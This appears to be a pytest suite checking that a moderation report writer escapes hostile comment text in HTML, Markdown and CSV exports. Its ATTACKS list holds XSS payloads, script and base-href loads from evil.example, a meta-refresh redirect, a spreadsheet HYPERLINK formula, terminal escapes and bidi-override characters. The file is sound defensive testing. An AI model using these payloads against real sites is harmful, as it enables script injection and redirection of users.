"""Comments, names and titles are attacks: nothing of them may run, load or break out of its place."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest
from handmade_run import Run, comment, explain, make_run
from lxml import html

from moderation.report import write_report

ATTACKS = [
    "<script>alert(1)</script>",
    '"><script src=https://evil.example/x.js></script>',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</style><script>alert(1)</script>",
    "</textarea></template></dialog><script>alert(1)</script>",
    "<!--",
    "]]><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{ 7*7 }} {% raw %}",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "\x1b[31mred\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\u202etxt.exe\u2066",
    "nul \x00 bell \x07 c1 \x9b",
    "\ufeff\ufffe\uffff",
    "Z" + "\u0335\u0336" * 500_000,
    '=HYPERLINK("https://evil.example","x")',
    "| a | [b](javascript:1) | ![c](https://evil.example/c.png)",
    "a\n\n# not a heading\n\n<b>",
    "x" * 200_000,
    " ",
]


def hostile_run(path: Path) -> Run:
    rows = [comment("parent", "<script>alert('parent')</script>", author="<b onclick=alert(1)>")]
    for number, attack in enumerate(ATTACKS):
        rows.append(
            comment(
                f"{number}-{attack[:200]}",
                f"idiot {attack} burn",
                author=attack,
                thread_title=attack,
                thread_id=attack[:200],
                url=attack,
                parent_id="parent",
                language=attack[:20],
                insult=0.9,
                threat=0.9,
            )
        )
    run = make_run(path / "run <script>alert(1)<", rows)
    run.manifest["inputs"][0]["problem"] = "<script>alert(1)</script>: broken"
    run.manifest["accounting"]["skipped"] = {"<img src=x onerror=alert(1)>": 2}
    return run


@pytest.fixture(scope="module")
def files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    run = hostile_run(tmp_path_factory.mktemp("hostile"))
    return write_report(run, ("html", "md", "csv", "jsonl", "xlsx", "parquet"), explain=explain)


def test_nothing_in_the_page_runs_but_its_own_script(files: dict[str, Path]) -> None:
    page = html.document_fromstring(files["html"].read_text("utf-8"))
    own = Path("moderation/report/assets/report.js")
    scripts = page.xpath("//script")
    assert len(scripts) == 1
    assert scripts[0].text == (Path(__file__).parents[2] / own).read_text("utf-8")
    assert not scripts[0].attrib
    names = {name for element in page.iter() for name in element.attrib}
    assert not [name for name in names if name.startswith("on")]
    assert "style" not in names and "srcdoc" not in names and "autofocus" not in names


def test_the_page_asks_for_nothing(files: dict[str, Path]) -> None:
    page = html.document_fromstring(files["html"].read_text("utf-8"))
    loading = "link, img, iframe, frame, object, embed, base, audio, video, source, image, use, foreignObject"
    assert not page.cssselect(loading)
    for name in ("src", "srcset", "action", "formaction", "poster", "background", "ping"):
        assert not page.xpath(f"//*[@{name}]")
    hrefs = {element.get("href") for element in page.xpath("//*[@href]")}
    assert all(href.startswith("#") for href in hrefs)
    style = page.cssselect("style")[0].text
    assert "url(" not in style and "@import" not in style


def test_every_attack_is_there_as_text(files: dict[str, Path]) -> None:
    page = html.document_fromstring(files["html"].read_text("utf-8"))
    cards = page.cssselect("article.card")
    assert len(cards) == len(ATTACKS)
    said = [card.cssselect(".said")[0].text_content() for card in cards]
    for attack in ATTACKS[:14]:
        assert f"idiot {attack} burn" in said
    assert sum(len(text) for text in said) < 20_000


def test_the_page_holds_no_invisible_control(files: dict[str, Path]) -> None:
    text = files["html"].read_text("utf-8")
    assert not re.findall("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ufffe\uffff]", text)
    assert not re.findall("[\u0335\u0336]{5}", text)
    assert len(text) < 400_000


def test_cells_of_the_csv_are_no_formulas(files: dict[str, Path]) -> None:
    csv.field_size_limit(10_000_000)
    with files["csv"].open(encoding="utf-8", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert not [cell for cell in cells if re.match(r"[=@\t\r]|[+-](?!\d)", cell)]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)


def test_markdown_stays_text(files: dict[str, Path]) -> None:
    text = files["md"].read_text("utf-8")
    assert not re.search(r"(?<!\\)<(?!https?://)\w", text)
    assert not re.search(r"(?<!\\)\]\(", text)
    assert "\n# not a heading" not in text
    assert [line for line in text.splitlines() if line.startswith("# ")] == [
        r"# Moderation report: run \<script\>alert(1)\<"
    ]


def test_file_names_with_broken_bytes_do_not_stop_a_report(tmp_path: Path) -> None:
    run = make_run(tmp_path / "run", [comment("a", "idiot", insult=0.9)])
    run.manifest["inputs"][0]["problem"] = "caf\udce9.xml: broken"
    made = write_report(run, ("html", "md"), explain=explain)
    assert "caf\ufffd.xml" in made["html"].read_text("utf-8")
    assert "caf\ufffd.xml" in made["md"].read_text("utf-8")
